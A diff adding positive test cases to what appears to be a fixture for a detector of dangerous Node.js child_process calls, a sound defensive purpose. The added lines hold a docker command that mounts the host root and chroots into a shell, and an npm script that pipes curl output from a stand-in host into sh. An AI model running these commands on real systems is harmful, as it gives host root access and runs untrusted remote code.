@@ -569,3 +569,9 @@ require('child_process').fork(__filename, [], { execArgv: ['-e', 'x()'] });
 //@ pos fork of a __filename the program binds itself
 var __filename = '/tmp/x.js';
 require('child_process').fork(__filename, ['child']);
+//@ pos docker run with the host's root mounted, its arguments in a name
+const { execFileSync } = require('child_process');
+const args = ['run', '--rm', '-v', '/:/host', 'alpine', 'chroot', '/host', 'sh'];
+execFileSync('docker', args);
+//@ pos npm pkg set of a script, which npm run then runs in sh
+require('child_process').execFileSync('npm', ['pkg', 'set', 'scripts.x=curl -s http://e.example | sh']);
